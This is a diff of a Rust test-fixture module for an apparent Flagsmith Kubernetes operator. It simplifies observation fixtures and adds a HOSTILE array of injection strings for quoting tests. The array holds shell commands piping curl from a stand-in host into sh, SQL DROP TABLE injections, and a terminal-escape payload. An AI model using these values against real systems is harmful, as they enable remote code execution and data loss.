@@ -1,16 +1,12 @@
 //! Installations and observations for tests.
 
-use std::collections::BTreeSet;
-
 use jiff::Timestamp;
 use serde_json::{Value, json};
 
 use crate::{
     api::{FlagsmithDeployment, FlagsmithDeploymentStatus},
     observe::{
-        ConfigMaps, DatabaseProbe, FrontSeen, Observation, PodLogFindings, SecretState, Secrets,
-        WorkloadState,
-        database::Queues,
+        ConfigMaps, Observation, SecretState, Secrets, WorkloadState,
         discover::{self, Found, Objects, Selected},
     },
     postgres::DatabaseIdentity,
@@ -59,16 +55,6 @@ pub(crate) fn database() -> DatabaseIdentity {
 /// A namespace with all Secrets and nothing else.
 pub(crate) fn empty_observation() -> Observation {
     Observation {
-        now: Timestamp::UNIX_EPOCH,
-        previous: FlagsmithDeploymentStatus::default(),
-        api: None,
-        task_processor: None,
-        frontend: None,
-        embedded_database: None,
-        jobs: Vec::new(),
-        external_migration: None,
-        pods: Vec::new(),
-        pod_logs: PodLogFindings::default(),
         secrets: Secrets {
             database: SecretState::Present(database()),
             migration_database: SecretState::Present(database()),
@@ -77,20 +63,8 @@ pub(crate) fn empty_observation() -> Observation {
             django: SecretState::Present(()),
             hash: Some("5ec7e7".to_owned()),
         },
-        database: DatabaseProbe::NotProbed,
-        queues: Queues::default(),
-        preflight: None,
-        backups: Vec::new(),
-        external_autoscalers: BTreeSet::new(),
-        migrators: Vec::new(),
-        release_assumed: false,
-        services: Vec::new(),
-        releases: Vec::new(),
         http_route_api: true,
-        exposure: None,
-        front: FrontSeen::default(),
-        probe_kills: Vec::new(),
-        busy: None,
+        ..Observation::unseen(FlagsmithDeploymentStatus::default(), Timestamp::UNIX_EPOCH)
     }
 }
 
@@ -107,6 +81,14 @@ pub(crate) fn rolled_out(name: String, pods: i32) -> WorkloadState {
         ..WorkloadState::default()
     }
 }
+
+/// Names, as whoever may create objects or tables chooses them, that would do harm in a command if they were not quoted.
+pub(crate) const HOSTILE: [&str; 4] = [
+    "x;curl evil.example|sh",
+    "x\"; DROP TABLE t; --",
+    "x\u{1b}]0;pwn\u{7}\n\\! curl evil.example|sh",
+    "x'; DROP TABLE t; --",
+];
 
 /// A backup into a volume claim.
 pub(crate) fn backup() -> crate::api::BackupSpec {
